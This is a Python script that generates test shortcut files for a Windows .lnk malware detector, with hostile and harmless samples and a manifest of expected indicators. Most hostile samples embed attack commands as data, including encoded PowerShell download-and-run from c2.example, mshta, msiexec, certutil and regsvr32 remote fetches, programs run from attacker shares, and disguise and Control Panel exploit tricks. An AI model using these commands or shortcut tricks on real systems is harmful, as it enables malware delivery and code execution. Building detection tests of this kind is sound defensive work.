# SPDX-License-Identifier: GPL-2.0-or-later
"""lnk_samples.py FOLDER: writes the shortcuts that the tests use: hostile ones, each with one trick and the indicators
that must name it, harmless ones as Windows makes them, and manifest.json, which says which is which."""
import base64
import json
import os
import struct
import sys

import make_lnk as m

CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
READER = r"C:\Program Files\Adobe\Acrobat DC\Acrobat\AcroRd32.exe"
BLANKS = "\t\n\v\f\r \u00a0\u1680\u2000\u2003\u200a\u2028\u2029\u202f\u205f\u3000\u2800"
COMMAND = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')".encode("utf-16-le")).decode()


def two_ways():
    """Its description claims 300 characters; Windows finds other arguments behind the first 260."""
    hidden = "x" * 260 + struct.pack("<H", 5).decode("utf-16-le") + "/c hi" + "\0" * 34
    return m.link(m.items_of(CMD), m.info(CMD), name=hidden, arguments="harmless")


def control_panel():
    return m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"\\10.0.0.9\share\payload.dll")))


def system(program, arguments="", **others):
    return ("a.lnk", m.windows_like("C:\\Windows\\System32\\" + program, arguments=arguments, **others))


VISTA_EDITOR = m.vista_items(m.root(), m.volume(), m.entry("Program Files", folder=True), m.entry("Editor", folder=True), m.entry("editor.exe"))
VISTA_CMD = m.vista_items(m.root(), m.volume(), m.entry("Windows", folder=True), m.entry("System32", folder=True), m.entry("cmd.exe"))
SHARE = r"\\c2.example\s"


def program_in_store(program):
    return m.windows_like(blocks=[m.block(0xA0000009, struct.pack("<I", 8 + 24 + len(program)) + b"1SPS" + b"\0" * 24 + program + m.TERMINAL)])


# What it is called here: its name, its bytes, the indicators that it must show.
HOSTILE = {
    "blanks before the command": ("a.lnk", m.windows_like(CMD, arguments=" " * 300 + "/c calc"), ["arguments-padded", "arguments-long", "builtin-with-arguments"]),
    "eight blanks": ("a.lnk", m.windows_like(CMD, arguments="/c" + " " * 8 + "x"), ["arguments-padded"]),
    "blanks behind a harmless start": ("a.lnk", m.windows_like(arguments="/open" + "\n" * 50 + "/evil"), ["arguments-padded", "arguments-line-break"]),
    "blanks with zero-width between": ("a.lnk", m.windows_like(arguments=" \u200b" * 20 + "x"), ["arguments-padded", "arguments-invisible"]),
    "a line break": ("a.lnk", m.windows_like(CMD, arguments="/c dir\r\ncalc"), ["arguments-line-break"]),
    "right-to-left override in arguments": ("a.lnk", m.windows_like(CMD, arguments="/c \u202eexe.a"), ["arguments-invisible"]),
    "encoded command": ("a.lnk", m.windows_like(POWERSHELL, arguments="-nop -w hidden -enc " + COMMAND), ["arguments-encoded-command", "arguments-hide-window", "arguments-fetch", "builtin-with-url"]),
    "encoded command by its shortest switch": ("a.lnk", m.windows_like(POWERSHELL, arguments="-E " + COMMAND), ["arguments-encoded-command"]),
    "encoded command, slash and quotes": ("a.lnk", m.windows_like(POWERSHELL, arguments='/ec "' + COMMAND + '"'), ["arguments-encoded-command"]),
    "encoded command, other dash": ("a.lnk", m.windows_like(POWERSHELL, arguments="\u2013enco " + COMMAND), ["arguments-encoded-command"]),
    "download and run": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c iex(iwr http://c2.example/a)"), ["arguments-fetch", "builtin-with-url"]),
    "mshta with an address": ("a.lnk", m.windows_like(r"C:\Windows\System32\mshta.exe", arguments="https://c2.example/a.hta"), ["builtin-with-url", "arguments-url"]),
    "msiexec through cmd": ("a.lnk", m.windows_like(CMD, arguments="/c start /min msiexec /q /i http://c2.example/a.msi"), ["arguments-run-builtin", "builtin-with-url", "arguments-hide-window"]),
    "certutil": ("a.lnk", m.windows_like(CMD, arguments="/c certutil -urlcache -f http://c2.example/a a.exe"), ["arguments-fetch"]),
    "script from a remote object": ("a.lnk", m.windows_like(r"C:\Windows\System32\regsvr32.exe", arguments="/s /n /u /i:http://c2.example/a.sct scrobj.dll"), ["arguments-fetch"]),
    "carets inside words": ("a.lnk", m.windows_like(CMD, arguments="/c p^o^w^e^r^s^h^e^l^l -c x"), ["arguments-obfuscated", "arguments-run-builtin"]),
    "backticks inside words": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c i`n`v`o`k`e-expression $a"), ["arguments-obfuscated", "arguments-fetch"]),
    "a program cut out of a variable": ("a.lnk", m.windows_like(CMD, arguments="/c %comspec:~0,3% x"), ["arguments-obfuscated"]),
    "takes its payload out of itself": ("a.lnk", m.windows_like(CMD, arguments='/c findstr "x" a.pdf.lnk > %temp%\\a.js'), ["arguments-name-links"]),
    "deletes itself": ("a.lnk", m.windows_like(CMD, arguments="/c calc & del /q a.lnk"), ["arguments-delete-link"]),
    "command behind a PDF icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=READER), ["program-behind-document-icon"]),
    "command behind a browser icon": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c calc", icon=r"C:\Program Files\Google\Chrome\Application\chrome.exe"), ["program-behind-document-icon"]),
    "command behind a folder icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=r"%SystemRoot%\System32\shell32.dll", icon_index=3), ["program-behind-document-icon"]),
    "command by a variable": ("a.lnk", m.link(blocks=[m.environment("%COMSPEC%")], flags=m.EXP_STRING, arguments="/c x", show=7), ["builtin-with-arguments", "builtin-out-of-sight"]),
    "endless path": ("a.lnk", m.link(link_info=m.info("C:\\" + "a" * 40000)), ["damaged"]),
    "icon by environment block": ("a.lnk", m.windows_like(CMD, [m.icon_environment(READER)], flags=m.EXP_ICON, arguments="/c calc"), ["program-behind-document-icon"]),
    "script behind a document's icon": ("a.lnk", m.windows_like(r"C:\Users\a\b.vbs", icon=r".\report.docx"), ["program-behind-document-icon"]),
    "reads two ways": ("a.lnk", two_ways(), ["reads-two-ways", "count-over-limit"]),
    "count past the end": ("a.lnk", m.windows_like(arguments="x", counts={"arguments": 60000}), ["damaged"]),
    "item list past the end": ("a.lnk", m.link(struct.pack("<H", 65535) + b"\x20\0" * 4), ["damaged"]),
    "item longer than its list": ("a.lnk", m.link(m.items(m.root(), b"\xff\x7f\x31")), ["damaged"]),
    "link information past the end": ("a.lnk", m.link(link_info=struct.pack("<I", 1 << 31) + m.info(CMD)[4:]), ["damaged"]),
    "link information with wild offsets": ("a.lnk", m.link(link_info=struct.pack("<IIIIIII", 0x1C, 0x1C, 3, 1 << 30, 1 << 30, 1 << 30, 1 << 30)), ["damaged"]),
    "no terminal block": ("a.lnk", m.windows_like(end=b""), ["damaged"]),
    "header only, and not all of it": ("a.lnk", m.windows_like()[:60], ["damaged"]),
    "a thousand blocks": ("a.lnk", m.windows_like(blocks=[m.block(0xDEADBEEF, b"")] * 1000), ["damaged", "unknown-block", "block-repeated"]),
    "payload behind the end": ("a.lnk", m.windows_like(overlay=b"MZ" + b"\0" * 500), ["overlay"]),
    "large payload": ("a.lnk", m.windows_like(overlay=b"<html>" + b"x" * 30000), ["overlay", "file-large"]),
    "items and environment disagree": ("a.lnk", m.windows_like(blocks=[m.environment(CMD)], flags=m.EXP_STRING), ["targets-disagree"]),
    "items and link information disagree": ("a.lnk", m.link(m.items_of(CMD), m.info(r"C:\Program Files\a\notepad.exe")), ["targets-disagree"]),
    "relative path disagrees": ("a.lnk", m.windows_like(relative="..\\evil.exe"), ["targets-disagree"]),
    "only ANSI environment target": ("a.lnk", m.link(blocks=[m.environment(CMD, "")], flags=m.EXP_STRING), ["environment-half-empty"]),
    "only Unicode environment target": ("a.lnk", m.link(blocks=[m.environment("", CMD)], flags=m.EXP_STRING), ["environment-half-empty"]),
    "environment halves differ": ("a.lnk", m.link(blocks=[m.environment(r"C:\a\cmd.exe", CMD)], flags=m.EXP_STRING, arguments="/c x", show=7), ["environment-halves-differ", "builtin-out-of-sight"]),
    "environment promised, not there": ("a.lnk", m.windows_like(flags=m.EXP_STRING, show=7), ["environment-missing", "show-minimised"]),
    "trailing dot": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("cmd.exe."))), ["target-trailing-dot-or-space"]),
    "trailing space": ("a.lnk", m.link(link_info=m.info("C:\\a\\cmd.exe ")), ["target-trailing-dot-or-space"]),
    "target padded": ("a.lnk", m.link(link_info=m.info("C:\\a.pdf" + " " * 100 + ".exe")), ["target-padded"]),
    "target over WebDAV": ("a.lnk", m.link(link_info=m.info_share("\\\\c2.example@SSL\\DavWWWRoot", "a.exe")), ["target-webdav"]),
    "target at a port": ("a.lnk", m.link(link_info=m.info_share("\\\\10.0.0.9@8080\\x", "a.exe", unicode=True)), ["target-webdav"]),
    "target by address": ("a.lnk", m.link(m.items(m.root("871C5380-42A0-1069-A2EA-08002B30309D"), m.uri("http://c2.example/a.exe"))), ["target-webdav"]),
    "icon from elsewhere": ("a.lnk", m.windows_like(icon=r"\\10.0.0.9\share\a.ico"), ["icon-remote"]),
    "icon from the web": ("a.lnk", m.windows_like(icon="https://c2.example/a.ico"), ["icon-remote"]),
    "program on a share, minimised": ("a.lnk", m.link(m.items(m.network(r"\\fs\x"), m.entry("a.exe")), show=7), ["target-unc", "show-minimised"]),
    "Control Panel path (CVE-2010-2568)": ("a.lnk", control_panel(), ["control-panel-path"]),
    "Control Panel by special folder (CVE-2017-8464)": ("a.lnk", m.windows_like(blocks=[]).replace(m.special_folder(), m.special_folder(3)), ["special-folder-control-panel"]),
    "Control Panel by known folder": ("a.lnk", m.link(m.items_of(CMD), blocks=[m.known_folder("82A74AEB-AEB4-465C-A014-D097EE346D63")]), ["special-folder-control-panel"]),
    "NUL in the arguments": ("a.lnk", m.windows_like(CMD, arguments="/c dir\0/c calc"), ["text-with-nul"]),
    "half characters": ("a.lnk", m.windows_like(CMD, arguments="/c \ud800"), ["text-not-unicode", "builtin-with-arguments"]),
    "console out of sight": ("a.lnk", m.windows_like(CMD, [m.console(1, 1, -3000, -3000, 0)], arguments="/c calc"), ["console-out-of-sight", "builtin-with-arguments"]),
    "minimised command": ("a.lnk", m.windows_like(CMD, arguments="/c calc", show=7), ["show-minimised", "builtin-out-of-sight"]),
    "odd block size": ("a.lnk", m.link(link_info=m.info(CMD), blocks=[m.block(0xA0000003, b"x" * 40)], arguments="/c x"), ["block-odd-size"]),
    "in a temporary folder, by relative path alone": ("a.lnk", m.link(relative=r".\Temp\x\a.exe"), ["target-relative-only", "target-in-temporary-folder"]),
    "program on a share": ("a.lnk", m.link(m.items(m.root(), m.network(SHARE), m.entry("setup.exe"))), ["target-remote-program", "target-unc"]),
    "program on a share, by link information": ("a.lnk", m.link(link_info=m.info_share(SHARE, "setup.exe")), ["target-remote-program"]),
    "program on a share, by address": ("a.lnk", m.link(m.items(m.uri("file://c2.example/s/setup.exe"))), ["target-remote-program"]),
    "script on a share": ("a.lnk", m.link(m.items(m.network(SHARE), m.entry("a.vbs"))), ["target-remote-program"]),
    "mshta and a share": (*system("mshta.exe", SHARE + r"\a.hta"), ["arguments-remote"]),
    "cmd and a share": (*system("cmd.exe", "/c " + SHARE + r"\a.exe"), ["arguments-remote"]),
    "cmd and a share, ANSI": (*system("cmd.exe", "/c " + SHARE + r"\a.exe", unicode=False), ["arguments-remote"]),
    "rundll32 and a share": (*system("rundll32.exe", SHARE + r"\a.dll,Go"), ["arguments-remote"]),
    "powershell and a share": (*system("powershell.exe", '-c "gc ' + SHARE + r'\a.txt|%{&$_}"'), ["arguments-remote"]),
    "explorer and a share": (*system("explorer.exe", SHARE + r"\a.exe"), ["arguments-remote"]),
    "conhost and a share": (*system("conhost.exe", "--headless " + SHARE + r"\a.exe"), ["arguments-remote"]),
    "InfDefaultInstall and a share": (*system("InfDefaultInstall.exe", SHARE + r"\a.inf"), ["arguments-remote"]),
    "a share, quoted": (*system("explorer.exe", '"' + SHARE + r'\a.exe"'), ["arguments-remote"]),
    "a share, other slashes": (*system("explorer.exe", "//c2.example/s/a.exe"), ["arguments-remote"]),
    "a share, by its long form": (*system("explorer.exe", r"\\?\UNC\c2.example\s\a.exe"), ["arguments-remote"]),
    "a share, behind an option": (*system("regsvr32.exe", r"/s /i:\\c2.example\s\a.sct x.dll"), ["arguments-remote"]),
    "a share, by address": (*system("explorer.exe", "file://c2.example/s/a.exe"), ["arguments-remote"]),
    "a share, carets inside": (*system("cmd.exe", r"/c ^\^\c2.example\s\a.exe"), ["arguments-remote"]),
    "explorer and WebDAV": (*system("explorer.exe", r"\\c2.example@SSL\s\a.exe"), ["arguments-remote"]),
    "explorer and an address": (*system("explorer.exe", "https://c2.example/a.exe"), ["arguments-remote"]),
    "msiexec, its option stuck to the address": (*system("msiexec.exe", '/q /i"http://c2.example/a.msi"'), ["builtin-with-url"]),
    "program by the newer item list": ("a.lnk", m.windows_like(r"C:\Windows\explorer.exe", [VISTA_CMD], arguments="/c calc"), ["targets-disagree", "builtin-with-arguments"]),
    "Control Panel path in the newer item list": ("a.lnk", m.link(blocks=[m.vista_items(m.root(), m.root(m.CONTROL_PANEL), m.applet(SHARE + r"\a.dll"))]), ["control-panel-path"]),
    "powershell by its short name": (*system("POWERS~1.EXE", "-c calc"), ["builtin-by-short-name", "builtin-with-arguments"]),
    "mshta by a short name": (*system("MSHTA~1.EXE", "a.hta"), ["builtin-by-short-name"]),
    "powershell by its short name, through cmd": (*system("cmd.exe", "/c POWERS~1 -c calc"), ["arguments-run-builtin"]),
    "words put together": (*system("powershell.exe", "-c \"$h='ht'+'tp:';&(gcm i*x)\""), ["arguments-obfuscated"]),
    "words put together, with blanks": (*system("powershell.exe", '-c ("Downl" + "oadStr" + "ing")'), ["arguments-fetch"]),
    "an address put together": (*system("powershell.exe", "-c ('ht'+'tp'+'://c2.example/a')"), ["builtin-with-url", "arguments-obfuscated"]),
    "program in a property store": ("a.lnk", program_in_store(b"MZ\x90\0" + b"\0" * 60), ["block-payload"]),
    "script in a property store": ("a.lnk", program_in_store("x = CreateObject(1)".encode("utf-16-le")), ["block-payload"]),
    "no properties in a property store": ("a.lnk", m.windows_like(blocks=[m.block(0xA0000009, b"\x04\x2e\0\0MZ" + b"A" * 0x2dfe + m.TERMINAL)]), ["block-payload"]),
    "program in an unknown block": ("a.lnk", m.windows_like(blocks=[m.block(0xA00000FF, b"MZ" + b"\0" * 200)]), ["unknown-block", "block-payload"]),
    "environment halves name two programs": ("a.lnk", m.link(blocks=[m.environment(r"C:\a.exe", CMD)], flags=m.EXP_STRING), ["targets-disagree"]),
    "long arguments alone": ("a.lnk", m.windows_like(arguments="x" * 251), ["arguments-long"]),
    "only a relative path": ("a.lnk", m.link(relative=r".\a.exe"), ["target-relative-only"]),
    "double extension": ("invoice.pdf.lnk", m.windows_like(), ["name-double-extension"]),
    "document's name, shortcut's content": ("invoice.pdf", m.windows_like(), ["name-not-the-content"]),
    "right-to-left override in the name": ("a\u202efdp.lnk", m.windows_like(), ["name-bidi-control"]),
    "zero-width in the name": ("inv\u200boice.lnk", m.windows_like(), ["name-zero-width"]),
    "blanks in the name": ("invoice.pdf" + " " * 60 + ".lnk", m.windows_like(), ["name-padded", "name-double-extension"]),
}

# PowerShell takes the beginning of a switch for the whole of it.
HOSTILE.update({f"hidden by {how}": (*system("powershell.exe", how + " -c calc"), ["arguments-hide-window"]) for how in
                ("-w h", "-wi hid", "-W HIDDEN", "-w 1", "/w hidden", "-WindowStyle:h", "\u2013win hidd", "-w 'h'+'id'",
                 "-ex byp", "-ep bypass", "-ExecutionPolicy b", "-exec unr", "-noni", "start /min")})

# Every kind of blank hides as well as the others.
HOSTILE.update({f"blank U+{ord(c):04X}": ("a.lnk", m.windows_like(arguments=c * 9 + "x"), ["arguments-padded"]) for c in BLANKS})

HARMLESS = {
    "a program": ("Editor.lnk", m.windows_like()),
    "a program with arguments": ("Editor.lnk", m.windows_like(arguments="--profile default")),
    "with description and icon": ("Editor.lnk", m.windows_like(name="Edits text", icon=r"C:\Program Files\Editor\editor.exe")),
    "maximised": ("Editor.lnk", m.windows_like(show=3)),
    "with a hotkey": ("Editor.lnk", m.windows_like(hotkey=0x0645)),
    "as administrator": ("Editor.lnk", m.windows_like(flags=m.RUN_AS)),
    "environment target alone": ("Prompt.lnk", m.link(blocks=[m.environment(r"%windir%\system32\notepad.exe")], flags=m.EXP_STRING)),
    "environment and items": ("Prompt.lnk", m.windows_like(r"C:\Windows\System32\cmd.exe", [m.environment(r"%windir%\system32\cmd.exe")], flags=m.EXP_STRING)),
    "icon by environment": ("Prompt.lnk", m.windows_like(blocks=[m.icon_environment(r"%ProgramFiles%\Editor\editor.exe")], flags=m.EXP_ICON)),
    "the command prompt": ("Command Prompt.lnk", m.windows_like(CMD, [m.console()], directory="%HOMEDRIVE%%HOMEPATH%")),
    "a build tool's prompt": ("Tools.lnk", m.windows_like(CMD, [m.console(120, 30)], arguments=r'/k "C:\Program Files\Tools\vars64.bat"')),
    "a PowerShell module": ("Shell.lnk", m.windows_like(POWERSHELL, arguments=r'-noe -c "&{Import-Module """C:\Tools\Shell.dll"""; Enter-Shell 5c2}"')),
    "rundll32": ("Keys.lnk", m.windows_like(r"C:\Windows\System32\rundll32.exe", arguments="keymgr.dll,KRShowKeyMgr")),
    "a document": ("report.lnk", m.windows_like(r"C:\Users\a\Documents\report.docx")),
    "a recent document, named after it": ("report.pdf.lnk", m.windows_like(r"C:\Users\a\Documents\report.pdf")),
    "a folder": ("Music.lnk", m.link(m.items(m.root(), m.volume("D:\\"), m.entry("Music", folder=True)), m.info("D:\\Music"))),
    "a drive": ("D.lnk", m.link(m.items(m.root(), m.volume("D:\\")), m.info("D:\\"))),
    "a short name with a long one": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("Long Program.exe", short="LONGPR~1.EXE")), m.info("C:\\Long Program.exe"))),
    "a short name like a built-in program's": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("Installer.exe", short="INSTAL~1.EXE")), m.info("C:\\INSTAL~1.EXE"), arguments="-x")),
    "Unicode names": ("日本.lnk", m.link(m.items(m.root(), m.volume(), m.entry("日本.exe")), m.info("C:\\日本.exe", unicode=True), name="説明")),
    "made on a Korean Windows": ("보고서.lnk", m.link(m.items(m.root(), m.volume(), m.entry("보고서.exe")), m.info("C:\\보고서.exe", page="cp949"), name="보고서")),
    "a variable for the command prompt": ("Prompt.lnk", m.windows_like(CMD, [m.environment("%ComSpec%")], flags=m.EXP_STRING)),
    "ANSI strings": ("a.lnk", m.windows_like(unicode=False, name="Éditeur", arguments="-x")),
    "on a share": ("a.lnk", m.link(m.items(m.network(r"\\fs\texts"), m.entry("a.docx")), m.info_share(r"\\fs\texts", "a.docx"))),
    "on a share, Unicode": ("a.lnk", m.link(m.items(m.network(r"\\fs\texts"), m.entry("a.docx")), m.info_share(r"\\fs\texts", "a.docx", unicode=True), icon=r"\\FS\texts\a.ico")),
    "arguments with doubled slashes": ("a.lnk", m.windows_like(arguments=r'-f "C:\\Tools\\x y" //nologo "C:\Program Files (x86)\\a" file:///C:/a/b.txt -w h')),
    "an address of another scheme": ("a.lnk", m.windows_like(arguments="steam://rungameid/440 mailto:a@b.example")),
    "a document for everybody": ("a.lnk", m.windows_like(r"C:\Users\Public\Documents\a.docx")),
    "minimised": ("a.lnk", m.windows_like(show=7)),
    "a web app": ("App.lnk", m.windows_like(r"C:\Program Files\Google\Chrome\Application\chrome_proxy.exe", arguments="--profile-directory=Default --app-id=abcdefghijklmnop", icon=r"C:\Users\a\AppData\Local\App\app.ico")),
    "a page in the browser": ("News.lnk", m.windows_like(r"C:\Program Files\Mozilla Firefox\firefox.exe", arguments="https://news.example/", icon=r"C:\Program Files\Mozilla Firefox\firefox.exe")),
    "an installed product": ("Product.lnk", m.link(m.items_of(r"C:\Windows\Installer\icon.exe"), blocks=[m.darwin("abc>def")], flags=1 << 12)),
    "every extra block": ("a.lnk", m.windows_like(blocks=[m.console(), m.code_page(), m.shim(), VISTA_EDITOR])),
    "made on a virtual machine": ("a.lnk", m.link(m.items_of(CMD), m.info(CMD), [m.tracker(mac="080027112233")])),
    "ForceNoLinkInfo": ("a.lnk", m.link(m.items_of(CMD), flags=m.NO_INFO)),
    "a Windows applet": ("Mouse.lnk", m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"C:\Windows\System32\main.cpl")))),
    "joiners where a script needs them": ("می\u200cخواهم.lnk", m.windows_like()),
    "without times": ("a.lnk", m.windows_like(head={"times": (0, 0, 0)})),
    "a program at the root of a drive": ("Tool.lnk", m.windows_like(r"D:\tool.exe")),
    "arguments in quotes": ("a.lnk", m.windows_like(arguments=r'"C:\Users\a\My Documents\letter.docx" /p')),
    "a control panel page by its name": ("Network.lnk", m.windows_like(r"C:\Windows\System32\control.exe", arguments="ncpa.cpl")),
    "a management console": ("Services.lnk", m.windows_like(r"C:\Windows\System32\services.msc", icon=r"%systemroot%\system32\filemgmt.dll")),
}


def main():
    folder = sys.argv[1]
    manifest = []
    for kind, table in (("hostile", HOSTILE), ("harmless", HARMLESS)):
        for i, (what, sample) in enumerate(table.items()):
            # A name of its own, beside the one that it goes by: those are not all fit for a disk.
            path = f"{kind}-{i:03}.lnk"
            with open(os.path.join(folder, path), "wb") as file:
                file.write(sample[1])
            manifest.append({"path": path, "kind": kind, "what": what, "name": sample[0],
                             "indicators": sample[2] if kind == "hostile" else []})
    with open(os.path.join(folder, "manifest.json"), "w") as file:
        json.dump(manifest, file, indent=1)


if __name__ == "__main__":
    main()
